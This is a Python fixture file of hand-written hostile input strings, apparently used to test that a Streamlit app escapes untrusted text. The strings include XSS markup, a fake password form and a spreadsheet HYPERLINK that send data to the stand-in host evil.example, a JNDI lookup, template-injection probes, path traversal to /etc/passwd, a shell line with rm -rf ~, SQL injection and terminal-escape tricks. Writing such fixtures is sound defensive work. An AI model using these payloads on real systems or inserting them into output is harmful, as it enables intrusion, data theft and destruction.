"""Texts that try to be more than text: written by hand, each under the name of what it tries."""

EVIL_HOST = "evil.example"

HOSTILE = {
    # markup of the browser; what runs would set window.__hostile, what loads would ask evil.example
    "script": "<script>window.__hostile=1</script>",
    "script_closes_first": "</script></style></textarea><script>window.__hostile=1</script>",
    "image_onerror": '<img src=x onerror="window.__hostile=1">',
    "image_elsewhere": '<img src="http://evil.example/pixel.png">',
    "svg_onload": "<svg onload=window.__hostile=1><circle r=9 /></svg>",
    "details_ontoggle": "<details open ontoggle=window.__hostile=1>x</details>",
    "style": "<style>body, .stApp { background: rgb(255, 0, 0) !important; color: rgb(255, 0, 0) !important }</style>",
    "style_import": "<style>@import url(//evil.example/a.css);</style>",
    "link_sheet": '<link rel="stylesheet" href="http://evil.example/a.css">',
    "form": '<form action="http://evil.example/steal"><input name=password><button>Sign in</button></form>',
    "frame": '<iframe src="http://evil.example/frame" srcdoc="<script>parent.__hostile=1</script>"></iframe>',
    "base": '<base href="http://evil.example/">',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "object": '<object data="http://evil.example/x.swf"></object><embed src="//evil.example/x">',
    "attribute_breaks_out": "' onmouseover='window.__hostile=1' x='",
    "attribute_breaks_out_double": '" autofocus onfocus="window.__hostile=1" x="',
    "dialog": "<b onclick=alert(1)>alert</b><script>alert(document.domain)</script>",
    "title": "<script>document.title='hostile'</script><title>hostile</title>",
    "comment": "<!-- <b>never ends ",
    "entities": "&lt;b&gt;&amp;&#60;i&#62;&colon;&nbsp;&copy;",
    # markup of markdown, Streamlit's included
    "markdown_image": "![x](http://evil.example/pixel.png)",
    "markdown_image_by_name": "![x][y] \n\n[y]: http://evil.example/pixel.png",
    "markdown_link": "[click](http://evil.example/)",
    "markdown_script_link": "[click](javascript:window.__hostile=1)",
    "markdown_autolink": "<http://evil.example/>",
    "bare_link": "see http://evil.example/a and https://evil.example/b",
    "bare_www": "see www.evil.example/a",
    "bare_mail": "write to you@evil.example now",
    "markdown_emphasis": "**bold** _italic_ ~~gone~~ `code` __bold__",
    "markdown_heading": "# A heading\n\n## Another",
    "markdown_underlined": "A heading\n=========\n\nAnother\n-------",
    "markdown_list": "- a list",
    "markdown_numbers": "1. a list",
    "markdown_quote": "> a quotation",
    "markdown_rule": "***\n---\n___",
    "markdown_indented": "    code by four blanks",
    "markdown_fence": "```js\nwindow.__hostile=1\n```",
    "markdown_table": "a | b\n--|--\n1 | 2",
    "markdown_task": "- [x] done",
    "markdown_footnote": "text[^1]\n\n[^1]: note",
    "colour": ":red[red] :blue-background[blue] :rainbow[all] :orange-badge[badge] :small[small]",
    "colour_attributes": ":color[x]{foreground='red' background='blue'} :help[what]",
    "icon": ":material/delete: :material_home: :streamlit:",
    "emoji": ":smile: :+1: :heart:",
    "arrows": "a -> b <- c -- d <-> e >= f <= g ~= h",
    "formula_of_katex": "$$\\href{javascript:window.__hostile=1}{x}$$ $\\frac{1}{2}$ \\(x\\)",
    "katex_image": "$\\includegraphics{http://evil.example/x.png}$ $\\def\\x{\\x\\x}\\x$",
    # markup of Plotly
    "plotly_tags": "<b>bold</b><br><i>x</i><sup>2</sup>",
    "plotly_link": '<a href="http://evil.example/" target="_self">link</a><a href="javascript:window.__hostile=1">x</a>',
    "plotly_holes": "%{x} %{y:.2f} %{customdata[0]}<extra>x</extra>",
    # holes of templates
    "braces": "{count} {name} {title} {0} {} {rows!r}",
    "braces_reach_in": "{0.__class__.__mro__} {error.__init__.__globals__}",
    "braces_alone": "}{ {{ }} {",
    "percent": "%(name)s %s %d %n 100 %",
    "other_templates": "${{7*7}} {{7*7}} #{7*7} <%= 7*7 %> ${jndi:ldap://evil.example/a}",
    # signs that steer a terminal, or the eye
    "terminal_title": "\x1b]0;hostile\x07title",
    "terminal_colour": "\x1b[31mred\x1b[2J\x1b[1;1H\x9b31m",
    "terminal_link": "\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "terminal_rewrites": "honest\rhostile\x08\x08\x08",
    "right_to_left": "\u202egnp.exe\u202c \u2066x\u2069",
    "nul": "before\0after",
    "zero_width": "zero\u200bwidth\u200d\u2060\ufeff joined",
    "combining": "z" + "\u0334\u0321" * 60,
    "half_a_pair": "half \ud800 a pair",
    # what a spreadsheet, a shell or a file system would take for its own
    "spreadsheet_link": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "spreadsheet_command": "=cmd|'/c calc'!A1",
    "spreadsheet_plus": "+1+1",
    "spreadsheet_minus": "-2+3",
    "spreadsheet_at": "@SUM(1)",
    "path": "../../../../etc/passwd",
    "path_of_windows": "..\\..\\windows\\win.ini",
    "path_absolute": "/etc/passwd",
    "shell": "$(touch hostile); `touch hostile`; rm -rf ~ | cat",
    "sql": "'; DROP TABLE runs; --",
    # plain awkwardness
    "quotes": '"double" \'single\' “curled” ‘curled’ «other» """',
    "backslashes": '\\ \\\\ \\n \\u0041 \\" \\',
    "lines": "one\ntwo\r\nthree\n\n\nfour\u2028five\x85six",
    "long_word": "Donaudampfschifffahrt" * 40,
    "names_of_python": "__proto__ constructor __class__ None NaN",
    "column_names_of_ours": "row split label text __index_level_0__ _index",
}

# What a CSV or JSON file can hold in one cell, and a web address in one value
PRINTABLE = {name: text for name, text in HOSTILE.items() if name not in ("nul", "half_a_pair")}


def normal(text: str) -> str:
    """Text as a browser's innerText gives it back: blanks run together, and what cannot be seen left out."""
    return " ".join("".join(sign for sign in text if sign not in "\u200b\u2060\ufeff").split())
